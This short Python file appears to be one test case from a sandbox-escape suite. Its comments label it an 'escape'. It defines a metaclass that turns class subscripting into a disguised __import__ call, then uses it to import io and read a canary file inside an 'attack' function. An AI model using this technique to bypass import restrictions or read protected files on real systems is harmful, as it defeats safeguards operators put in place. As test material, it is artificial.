# desc: a subscription that imports
# class: escape
# wins: told
class Door(type):
    def __getitem__(cls, name):
        return __import__(name)

class House(metaclass=Door):
    pass

def attack(state):
    return "L2:" + House["io"].open("@CANARY@").read()
